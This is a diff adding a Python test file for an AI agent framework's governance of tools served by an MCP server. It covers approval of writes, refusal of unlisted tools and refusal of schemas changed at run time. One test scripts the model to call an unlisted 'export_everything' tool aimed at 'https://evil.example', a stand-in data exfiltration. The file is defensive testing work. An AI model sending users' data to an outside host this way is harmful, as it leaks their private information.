@@ -1,0 +1,155 @@
+"""A real MCP server process (``tests/mcp_server.py``), over stdio and over streamable HTTP on loopback, governed.
+
+The policy names three of the server's four tools; the fourth (``export_everything``) is never
+offered and is refused when called. The write runs once, after its approval; a schema the
+server changes at run time is refused from then on.
+"""
+
+from __future__ import annotations
+
+import socket
+import subprocess
+import sys
+import textwrap
+import time
+from collections.abc import AsyncIterator, Iterator
+from dataclasses import replace
+from pathlib import Path
+
+import httpx
+import pytest
+
+from graph._env import stop_group
+from graph.checkpointer import open_checkpointer
+from graph.db import Database
+from graph.runner import TurnRunner
+from graph.services import Services
+from graph.state import Context
+from graph.turn import build_graph
+from tests.fakes import ScriptedModel, call, say
+from tests.harness import Turns
+from tools.builtin import builtin_tools
+from tools.mcp_tools import McpPolicyError, open_mcp_tools, schema_hash
+from tools.registry import Registry
+
+_ROOT = Path(__file__).resolve().parent.parent
+
+_TOOLS = """
+[servers.notes.tools.list_notes]
+tier = "allowlist"
+result_ids = { kind = "note", field = "id", label = "text" }
+usage_examples = ["list my notes"]
+
+[servers.notes.tools.add_note]
+tier = "confirmation"
+effect = "write"
+preview = "Add the note '{text}'"
+usage_examples = ["add a note"]
+
+[servers.notes.tools.reshape]
+tier = "allowlist"
+usage_examples = ["reshape the notes"]
+"""
+
+
+def _free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        port: int = sock.getsockname()[1]
+        return port
+
+
+@pytest.fixture(params=["stdio", "http"])
+def policy(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Path, Path]]:
+    """The policy file for a fresh server (a subprocess over stdio, or one serving HTTP) and its call counter."""
+    counter = tmp_path / "count"
+    if request.param == "stdio":
+        server = (f'command = ["{sys.executable}", "-m", "tests.mcp_server", "stdio"]\n'
+                  f'env = {{ NOTES_COUNT_FILE = "{counter}", PYTHONPATH = "{_ROOT}" }}\n')
+        path = tmp_path / "policy.toml"
+        path.write_text("[servers.notes]\n" + server + textwrap.dedent(_TOOLS))
+        yield path, counter
+        return
+    port = _free_port()
+    proc = subprocess.Popen([sys.executable, "-m", "tests.mcp_server", "http", str(port)], cwd=_ROOT,
+                            env={"NOTES_COUNT_FILE": str(counter), "PATH": "/usr/bin:/bin", "PYTHONPATH": str(_ROOT)},
+                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
+    try:
+        deadline = time.monotonic() + 30
+        while True:
+            try:
+                httpx.get(f"http://127.0.0.1:{port}/mcp", timeout=1)
+                break
+            except httpx.TransportError:
+                assert proc.poll() is None and time.monotonic() < deadline, "the MCP server did not start"
+                time.sleep(0.1)
+        path = tmp_path / "policy.toml"
+        path.write_text(f'[servers.notes]\nurl = "http://127.0.0.1:{port}/mcp"\n' + textwrap.dedent(_TOOLS))
+        yield path, counter
+    finally:
+        stop_group(proc)
+
+
+@pytest.fixture
+async def mcp_turns(services: Services, db: Database, policy: tuple[Path, Path]) -> AsyncIterator[Turns]:
+    async with open_mcp_tools(policy[0]) as specs:
+        svc = replace(services, registry=Registry((*builtin_tools(), *specs)))
+        yield Turns(TurnRunner(build_graph(svc, checkpointer=await open_checkpointer(db)), svc))
+
+
+def _count(counter: Path) -> int:
+    return int(counter.read_text()) if counter.exists() else 0
+
+
+async def test_a_read_runs_and_a_write_runs_once_after_its_approval(
+    mcp_turns: Turns, model: ScriptedModel, ctx: Context, policy: tuple[Path, Path]
+) -> None:
+    offered = {s["function"]["name"] for s in mcp_turns.runner.services.registry.function_schemas()}
+    assert {"notes__list_notes", "notes__add_note"} <= offered and "notes__export_everything" not in offered
+    thread = ctx.owner_id + "/mcp"
+    model.push(call("notes__list_notes", {}), say("You have two notes."))
+    out = await mcp_turns.send(ctx, thread, "list my notes")
+    assert out.outcome == "read" and "buy milk" in str(model.prompts[-1][-1].content)
+    model.push(call("notes__add_note", {"text": "water the plants"}))
+    out = await mcp_turns.send(ctx, thread, "add a note: water the plants")
+    assert out.approval is not None and out.approval.preview == "Add the note 'water the plants'"
+    assert _count(policy[1]) == 0
+    done = await mcp_turns.decide(ctx, out.approval.approval_id, {"type": "approve"})
+    assert done.outcome == "executed" and _count(policy[1]) == 1
+
+
+async def test_a_tool_the_policy_does_not_name_is_refused(mcp_turns: Turns, model: ScriptedModel, ctx: Context) -> None:
+    model.push(call("notes__export_everything", {"destination": "https://evil.example"}),
+               call("notes__export_everything", {"destination": "https://evil.example"}))
+    out = await mcp_turns.send(ctx, ctx.owner_id + "/mcp-unlisted", "export my notes")
+    assert out.outcome in ("clarify", "refused") and out.approval is None
+
+
+async def test_a_schema_changed_at_run_time_is_refused(
+    mcp_turns: Turns, model: ScriptedModel, ctx: Context, policy: tuple[Path, Path]
+) -> None:
+    thread = ctx.owner_id + "/mcp-changed"
+    model.push(call("notes__reshape", {}), say("Done."))
+    assert (await mcp_turns.send(ctx, thread, "reshape the notes")).outcome == "read"
+    model.push(call("notes__add_note", {"text": "after the change"}))
+    out = await mcp_turns.send(ctx, thread, "add a note: after the change")
+    assert out.approval is not None
+    done = await mcp_turns.decide(ctx, out.approval.approval_id, {"type": "approve"})
+    assert done.outcome == "failed" and _count(policy[1]) == 0
+    errors = [e["data"] for e in done.events if e["type"] == "tool_end" and e["data"].get("status") == "error"]
+    assert errors and errors[0]["code"] == "permission_denied"
+
+
+async def test_a_pinned_schema_that_differs_refuses_to_start(tmp_path: Path) -> None:
+    path = tmp_path / "policy.toml"
+    path.write_text(textwrap.dedent(f'''
+        [servers.notes]
+        command = ["{sys.executable}", "-m", "tests.mcp_server", "stdio"]
+        env = {{ PYTHONPATH = "{_ROOT}" }}
+        [servers.notes.tools.list_notes]
+        tier = "allowlist"
+        schema_sha256 = "{schema_hash({"type": "object"})}"
+    '''))
+    with pytest.raises(McpPolicyError, match="not the one the policy pins"):
+        async with open_mcp_tools(path):
+            pass
